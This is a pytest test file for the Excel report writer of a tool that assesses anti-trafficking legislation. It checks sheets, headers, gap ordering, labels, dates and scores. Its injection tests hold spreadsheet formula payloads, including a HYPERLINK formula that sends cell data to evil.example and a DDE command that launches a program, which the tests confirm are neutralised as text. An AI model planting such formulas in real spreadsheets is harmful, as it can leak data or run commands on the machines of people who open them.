"""The Excel reports: every workbook is opened again with openpyxl and its cells checked."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from assessor.assessment import (
    Assessment,
    Decision,
    ElementView,
    Finding,
    LawFile,
    apply_pre_assessment,
    new_assessment,
)
from assessor.catalog import load_catalog
from assessor.legislation.model import Kind, Legislation, Provision, SourceFile
from assessor.legislation.reader import read_legislation
from assessor.preassessment import ElementStatus, RequirementStatus, pre_assess
from assessor.reports.cells import MAX_CELL_CHARS, safe_cell
from assessor.reports.comparison_xlsx import write_comparison, write_matrix
from assessor.reports.xlsx_report import FINDINGS_COLUMNS, write_workbook
from assessor.scoring import GRADE_SUBSET
from conftest import ROOT

MET, PART, NOT = RequirementStatus.MET, RequirementStatus.PARTIALLY_MET, RequirementStatus.NOT_MET
NA, NAS = RequirementStatus.NOT_APPLICABLE, RequirementStatus.NOT_ASSESSED
CATALOG = load_catalog()
ARCADIA = ROOT / "legislation_samples" / "arcadia-anti-trafficking-act-2024.docx"


def pre_assessed(path: Path, jurisdiction: str, title: str) -> tuple[Assessment, Legislation]:
    legislation = read_legislation([path])
    base = replace(new_assessment(jurisdiction, title, "2024-06-01"),
                   files=tuple(LawFile.from_source(f, version="as enacted") for f in legislation.files))
    return apply_pre_assessment(base, pre_assess(legislation, CATALOG))[0], legislation


@pytest.fixture(scope="module")
def arcadia() -> tuple[Assessment, Legislation]:
    return pre_assessed(ARCADIA, "Arcadia", "Anti-Trafficking Act 2024")


@pytest.fixture(scope="module")
def arcadia_book(arcadia):
    assessment, legislation = arcadia
    return load_workbook(io.BytesIO(write_workbook(assessment, CATALOG, legislation=legislation)))


def handmade(statuses: dict[str, RequirementStatus], decisions: dict[str, Decision] | None = None,
             quotes: dict[str, str] | None = None) -> Assessment:
    """Every requirement met by the machine except `statuses`; `decisions` and element `quotes` by requirement."""
    a = new_assessment("Caledonia", "Trafficking Bill v1", "2024-05-01")
    decisions, quotes = decisions or {}, quotes or {}
    findings = {}
    for r in CATALOG.requirements:
        elements = (ElementView(r.id + ".x", ElementStatus.FOUND, ("s. 1",), "express", quotes[r.id]),) \
            if r.id in quotes else ()
        findings[r.id] = Finding(r.id, statuses.get(r.id, MET), elements, ("s. 1",), "d0", decisions.get(r.id))
    return replace(a, findings=findings)


def rows(ws, first: int = 1) -> list[list]:
    return [list(r) for r in ws.iter_rows(min_row=first, values_only=True)]


def column(ws, header: str) -> int:
    """1-based index of a header in row 1."""
    return [c.value for c in ws[1]].index(header) + 1


# --------------------------------------------------------------------------- structure

def test_sheet_names(arcadia_book) -> None:
    # The five report sheets, the provision index (legislation given), the very hidden owner sheet.
    assert arcadia_book.sheetnames == ["Summary", "Gaps", "Findings", "Evidence", "Legislation", "Provisions",
                                       "_assessor"]
    assert arcadia_book["_assessor"].sheet_state == "veryHidden"


HEADER_CASES = [
    # Gaps: the columns of the brief, priority first
    ("Gaps", ["Priority #", "Requirement id", "Reference", "Title", "Obligation", "Status", "Recommendation",
              "Model Law reference", "Pillars", "Assistance needed"]),
    # Findings: every field, then the two technical columns
    ("Findings", [h for h, _ in FINDINGS_COLUMNS]),
    # Evidence: one row per found element
    ("Evidence", ["Requirement id", "Element id", "Element", "Provisions", "Rule", "Quoted provision text"]),
    # Legislation: the law files
    ("Legislation", ["File", "Title", "Version", "Format", "Language", "Provisions", "Size (bytes)", "SHA-256",
                     "Added at"]),
    # Provisions: the index of the legislation read
    ("Provisions", ["Citation", "Kind", "Heading", "File", "Language", "Text"]),
]


@pytest.mark.parametrize(("sheet", "headers"), HEADER_CASES)
def test_headers_frozen_and_filtered(arcadia_book, sheet: str, headers: list[str]) -> None:
    ws = arcadia_book[sheet]
    assert [c.value for c in ws[1]] == headers
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref.startswith("A1:")


def test_findings_cover_the_scope_with_hidden_version(arcadia, arcadia_book) -> None:
    ws = arcadia_book["Findings"]
    ids = [r[0] for r in rows(ws, 2)]
    assert ids == [r.id for r in CATALOG.requirements]  # every requirement in scope, catalog order
    version = ws.cell(row=1, column=column(ws, "Version")).column_letter
    assert ws.column_dimensions[version].hidden
    assert ws.cell(row=2, column=column(ws, "Version")).value == 0


def test_summary_values_and_chart(arcadia, arcadia_book) -> None:
    ws = arcadia_book["Summary"]
    values = {r[0]: r[1] for r in rows(ws) if r[0]}
    assert values["Assessment id"] == arcadia[0].id
    assert values["Requirements in scope"] == 194
    assert values["Prosecution"] is not None and 0 <= values["Prosecution"] <= 1  # the pillar score
    assert "score = (met + 0.5" in values["Score"]
    assert "docs/scoring.md" in values["Grade rules"]
    assert any(r[0] == "arcadia-anti-trafficking-act-2024.docx" and r[1] == "as enacted" for r in rows(ws))
    assert len(ws._charts) == 1  # the chart read back
    data = write_workbook(arcadia[0], CATALOG)
    chart = zipfile.ZipFile(io.BytesIO(data)).read("xl/charts/chart1.xml").decode()
    assert "<barChart>" in chart and "'Summary'!$B$" in chart  # a native bar chart over the score cells


def test_status_drop_down_and_colours(arcadia_book) -> None:
    ws = arcadia_book["Findings"]
    letter = ws.cell(row=1, column=column(ws, "Assessor status")).column_letter
    (validation,) = ws.data_validations.dataValidation
    assert validation.type == "list"
    assert validation.formula1 == '"Met,Partially met,Not met,Not applicable,Not assessed"'
    assert str(validation.sqref) == f"{letter}2:{letter}195"
    rules = {str(rng.sqref): [r.formula[0] for r in ws.conditional_formatting[rng]]
             for rng in ws.conditional_formatting}
    (ranges,) = rules
    assert f"{letter}2:{letter}195" in ranges.split()
    assert {'"Met"', '"Partially met"', '"Not met"', '"Not applicable"', '"Not assessed"'} <= set(rules[ranges])
    assert arcadia_book["Gaps"].conditional_formatting  # the status column of the gaps, too


def test_evidence_rows_are_found_elements(arcadia) -> None:
    assessment = arcadia[0]
    ws = load_workbook(io.BytesIO(write_workbook(assessment, CATALOG)))["Evidence"]
    found = [(rid, e.element_id) for rid, f in assessment.findings.items() for e in f.elements
             if e.status is ElementStatus.FOUND]
    assert [(r[0], r[1]) for r in rows(ws, 2)] == found
    assert all(r[2] for r in rows(ws, 2))  # the element's name on each
    quotes = {(rid, e.element_id): e.quote for rid, f in assessment.findings.items() for e in f.elements}
    assert [r[5] or "" for r in rows(ws, 2)] == [quotes[k] for k in found]


# --------------------------------------------------------------------------- gaps

GAP_STATUSES = {
    "GP.training": NOT,  # good practice, not met
    "SOM-8-2": PART,  # optional, partially met
    "SOM-19-1": NOT,  # saving clause: never a gap
    "TIP-6-5": NOT,  # shall endeavour, not met
    "TIP-6-3": NOT,  # consider, not met
    "TIP-6-1": PART,  # mandatory (qualified), partially met
    "TIP-5-2-a": NOT,  # mandatory (qualified), not met
    "TIP-3-c": PART,  # mandatory, partially met
    "TIP-3-b": NOT,  # mandatory, not met, later in the catalog than TIP-3-a
    "TIP-3-a": NOT,  # mandatory, not met
    "TIP-9-2": NA,  # not applicable: no gap
}
GAP_ORDER = [
    # (requirement, status, the opening of its recommendation)
    ("TIP-3-a", "Not met", "The State is urged to amend"),  # mandatory, not met, catalog order
    ("TIP-3-b", "Not met", "The State is urged to amend"),
    ("TIP-3-c", "Partially met", "The State is urged to amend"),  # then partially met
    ("TIP-5-2-a", "Not met", "The State is urged to "),  # mandatory qualified: urged too
    ("TIP-6-1", "Partially met", "The State is urged to adopt"),
    ("TIP-6-5", "Not met", "The State is urged to make efforts to provide"),  # endeavour: make efforts
    ("TIP-6-3", "Not met", "The State may wish to consider providing"),  # consider, no "consider consider"
    ("SOM-8-2", "Partially met", "The State is invited to provide"),  # optional: invited
    ("GP.training", "Not met", "The State is invited to provide"),  # good practice: invited
]


def test_gaps_are_prioritised_and_worded() -> None:
    decision = Decision(NOT, "no provision", assistance="drafting support")
    book = load_workbook(io.BytesIO(write_workbook(handmade(GAP_STATUSES, {"GP.training": decision}), CATALOG)))
    got = rows(book["Gaps"], 2)
    assert [(r[1], r[5]) for r in got] == [(rid, status) for rid, status, _ in GAP_ORDER]
    assert [r[0] for r in got] == list(range(1, len(GAP_ORDER) + 1))
    for row, (_, _, opening) in zip(got, GAP_ORDER, strict=True):
        assert row[6].startswith(opening), row[6]
    assert got[-1][9] == "drafting support"  # the assistance of the decision
    assert got[0][7] == "UNODC Model Law against Trafficking in Persons (2009), art. 8"


# --------------------------------------------------------------------------- injection and bad characters

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',  # a formula with a link out
    "+1+1",  # plus starts a formula
    "-2",  # minus starts a formula (and looks like a number)
    "@SUM(1)",  # at-sign: Lotus-style function
    "  =1",  # leading spaces before the equals sign
    "\t=1",  # a leading tab
    "=cmd|' /C calc'!A0",  # dynamic data exchange
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_like_text_stays_text(text: str) -> None:
    decision = Decision(MET, rationale=text, provisions=(text,), notes=text, assistance=text)
    assessment = handmade({"TIP-3-a": MET}, {"TIP-3-a": decision}, {"TIP-3-a": text})
    provision = Provision("p1", text, Kind.ARTICLE, "1", text, text, "act.txt", "en", None, 0)
    legislation = Legislation((SourceFile("act.txt", "txt", "en", 10, "0" * 64, 1),), (provision,))
    book = load_workbook(io.BytesIO(write_workbook(assessment, CATALOG, legislation=legislation)))
    cells = [book["Findings"].cell(row=2, column=column(book["Findings"], h))
             for h in ("Rationale", "Cited provisions", "Notes", "Assistance needed")]
    cells += [book["Evidence"]["F2"], book["Provisions"]["A2"], book["Provisions"]["C2"], book["Provisions"]["F2"]]
    for cell in cells:
        assert (cell.value, cell.data_type) == (text, "s"), cell.coordinate
        assert cell.quotePrefix  # Excel keeps it text when the cell is edited


CLEAN_CASES = [
    # NUL, BEL and ESC are removed
    ("a\x00b\x07c\x1bd", "abcd"),
    # tab and newline are kept; CR LF and a lone CR become LF
    ("a\tb\r\nc\rd\ne", "a\tb\nc\nd\ne"),
    # DEL, C1 controls and the XML non-characters are removed
    ("x\x7f\x85\ufffey", "xy"),
    # plain text is unchanged, accents included
    ("Article 5 — traite des êtres humains", "Article 5 — traite des êtres humains"),
    # numbers and None pass through
    (3, 3),
    (None, None),
    # an enum gives its value
    (MET, "met"),
]


@pytest.mark.parametrize(("value", "expected"), CLEAN_CASES)
def test_safe_cell_cleans(value, expected) -> None:
    assert safe_cell(value) == expected


QUOTE_CASES = [
    # untyped outputs (CSV): a formula-like text gets a leading quote
    ("=1", "'=1"),
    ("  -2", "'  -2"),
    # ordinary text does not
    ("s. 2(1)", "s. 2(1)"),
]


@pytest.mark.parametrize(("value", "expected"), QUOTE_CASES)
def test_safe_cell_quote_for_untyped_outputs(value: str, expected: str) -> None:
    assert safe_cell(value, quote=True) == expected


def test_control_characters_and_long_text_in_the_workbook() -> None:
    decision = Decision(MET, rationale="ok\x00\x07\x1b done", notes="n" * (MAX_CELL_CHARS + 50))
    book = load_workbook(io.BytesIO(write_workbook(handmade({}, {"TIP-3-a": decision}), CATALOG)))
    ws = book["Findings"]
    assert ws.cell(row=2, column=column(ws, "Rationale")).value == "ok done"
    notes = ws.cell(row=2, column=column(ws, "Notes")).value
    assert len(notes) == MAX_CELL_CHARS and notes.endswith("…")


# --------------------------------------------------------------------------- comparison and matrix

LAW = {"TIP-3-a": PART, "TIP-3-c": MET, "TIP-6-6": MET, "TIP-6-3": NOT}
BILL = {"TIP-3-a": MET, "TIP-3-c": NOT, "TIP-6-6": MET, "TIP-6-3": PART}


def test_comparison_workbook() -> None:
    law = handmade(LAW)
    bill = replace(handmade(BILL), title="=Bill v2")  # a title that looks like a formula stays text
    book = load_workbook(io.BytesIO(write_comparison(law, bill, CATALOG)))
    assert book.sheetnames == ["Changes", "Scores"]
    ws = book["Changes"]
    assert (ws["B2"].value, ws["B2"].data_type) == ("Caledonia: =Bill v2", "s")
    table = rows(ws, 6)
    assert [(r[0], r[1], r[5], r[6]) for r in table] == [
        ("gap closed", "TIP-3-a", "Partially met", "Met"),
        ("gap opened", "TIP-3-c", "Met", "Not met"),
        ("changed", "TIP-6-3", "Not met", "Partially met"),
    ]
    assert ws.freeze_panes == "A6" and ws.auto_filter.ref.startswith("A5:")
    scores = {r[0]: r[1:4] for r in rows(book["Scores"], 5) if r[0]}
    before, after, delta = scores["Prosecution"]
    # Each of the three figures is rounded to 4 places, so the rounded delta may differ by up to 1.5e-4.
    assert delta == pytest.approx(after - before, abs=1.5e-4 + 1e-9)
    assert len(book["Scores"]._charts) == 1


def test_matrix_workbook() -> None:
    som_only = replace(handmade(LAW), jurisdiction="Dorvania", instruments=("SOM", "UNTOC"))
    book = load_workbook(io.BytesIO(write_matrix([handmade(LAW), handmade(BILL), som_only], CATALOG)))
    ws = book["Matrix"]
    header = rows(ws, 4)[0]
    assert header == ["Requirement id", "Reference", "Caledonia: Trafficking Bill v1",
                      "Caledonia: Trafficking Bill v1 (2)", "Dorvania: Trafficking Bill v1"]
    cells = {r[0]: r[2:] for r in rows(ws, 5)}
    assert cells["TIP-3-c"] == ["Met", "Not met", "out of scope"]
    assert len(cells) == len(CATALOG.requirements)
    assert ws.freeze_panes == "C5" and ws.conditional_formatting
    scores = {r[0]: r[1:] for r in rows(book["Scores"], 2)}
    assert "Score: Prosecution" in scores
    # SOM is in the common scope: the grade's row names the subset it is over
    grade_row = f"Grade (3P scale): Prosecution (graded on {GRADE_SUBSET})"
    assert scores[grade_row] == [None, None, None]  # TIP not in the common scope


# --------------------------------------------------------------------------- labels, dates, one score per pillar

CODES = ("not_met", "partially_met", "not_applicable", "not_assessed", "mandatory_qualified", "good_practice")


def visible_texts(book) -> list[str]:
    """Every text cell a person sees (the very hidden owner sheet and the hidden columns left out)."""
    texts = []
    for ws in book.worksheets:
        if ws.sheet_state != "visible":
            continue
        hidden = {letter for letter, d in ws.column_dimensions.items() if d.hidden}
        texts += [c.value for row in ws.iter_rows() for c in row
                  if isinstance(c.value, str) and c.column_letter not in hidden]
    return texts


@pytest.mark.parametrize("code", CODES)
def test_workbook_shows_labels_never_codes(code: str) -> None:
    # a decided, a qualified and a good-practice requirement, gaps of both kinds: no code in any visible cell
    decisions = {"TIP-3-c": Decision(PART, "a means missing"), "TIP-9-2": Decision(NA, "no border")}
    book = load_workbook(io.BytesIO(write_workbook(handmade(GAP_STATUSES, decisions), CATALOG)))
    assert not [t for t in visible_texts(book) if code in t]


# (sheet, column header, requirement id, label expected in the Findings or Gaps row)
LABEL_CASES = [
    # the status in force, as its label
    ("Findings", "Status in force", "TIP-3-c", "Partially met"),
    # the assessor's status too
    ("Findings", "Assessor status", "TIP-3-c", "Partially met"),
    # the obligation level, as its label
    ("Findings", "Obligation", "TIP-5-2-a", "Mandatory, subject to the legal system"),
    # a gap's level and status
    ("Gaps", "Obligation", "GP.training", "Good practice"),
    ("Gaps", "Status", "TIP-3-a", "Not met"),
]


@pytest.mark.parametrize(("sheet", "header", "rid", "expected"), LABEL_CASES)
def test_workbook_labels(sheet: str, header: str, rid: str, expected: str) -> None:
    decisions = {"TIP-3-c": Decision(PART, "a means missing")}
    ws = load_workbook(io.BytesIO(write_workbook(handmade(GAP_STATUSES, decisions), CATALOG)))[sheet]
    key = 1 if sheet == "Gaps" else 0  # the requirement id's column
    row = next(r for r in rows(ws, 2) if r[key] == rid)
    assert row[column(ws, header) - 1] == expected


def test_times_are_dates_with_a_date_format(arcadia) -> None:
    # decided at, the file's added at and the summary's times are real dates, formatted as dates, not ISO text
    decision = replace(Decision(MET, "ok"), at="2026-12-04T13:37:44+00:00")
    assessment = arcadia[0]
    assessment = assessment.with_finding(replace(assessment.finding("TIP-5-1"), decision=decision))
    book = load_workbook(io.BytesIO(write_workbook(assessment, CATALOG)))
    findings = book["Findings"]
    row = next(r[0].row for r in findings.iter_rows(min_row=2) if r[0].value == "TIP-5-1")
    cell = findings.cell(row=row, column=column(findings, "Decided at"))
    assert cell.value == datetime(2026, 12, 4, 13, 37, 44) and cell.is_date
    assert cell.number_format == "yyyy-mm-dd hh:mm"
    assert findings.cell(row=2, column=column(findings, "Decided at")).value is None  # undecided: empty
    added = book["Legislation"].cell(row=2, column=9)
    assert isinstance(added.value, datetime) and added.is_date
    summary = {r[0].value: r[1] for r in book["Summary"].iter_rows(max_col=2) if r[0].value}
    assert summary["Date"].value == datetime(2024, 6, 1) and summary["Date"].number_format == "yyyy-mm-dd"
    for key in ("Last change (UTC)", "Exported at (UTC)"):
        assert isinstance(summary[key].value, datetime) and summary[key].is_date, key


def test_summary_one_score_per_pillar_with_the_grade_subset(arcadia_book) -> None:
    # each pillar row: the pillar's one score, the grade beside it, and the subset the grade is over, named
    ws = arcadia_book["Summary"]
    header = next(r for r in ws.iter_rows(values_only=True) if r[0] == "Pillar")
    pillar_rows = {r[0]: r for r in rows(ws) if r[0] in ("Prosecution", "Protection", "Prevention",
                                                          "National coordination and cooperation")}
    assert header[:2] == ("Pillar", "Score") and header[8:10] == ("Grade (3P scale)", "How the grade was reached")
    assert list(header).count("Score") == 1
    for pillar in ("Prosecution", "Protection", "Prevention"):
        row = pillar_rows[pillar]
        assert isinstance(row[1], float) and row[8] in range(1, 6)
        assert row[9].startswith(f"graded on the {GRADE_SUBSET}, which score "), row[9]
        assert re.search(r"which score \d+\.\d%: band \d", row[9])  # in percent, as the Score column shows
    assert list(pillar_rows["National coordination and cooperation"][8:10]) == [None, None]  # not graded


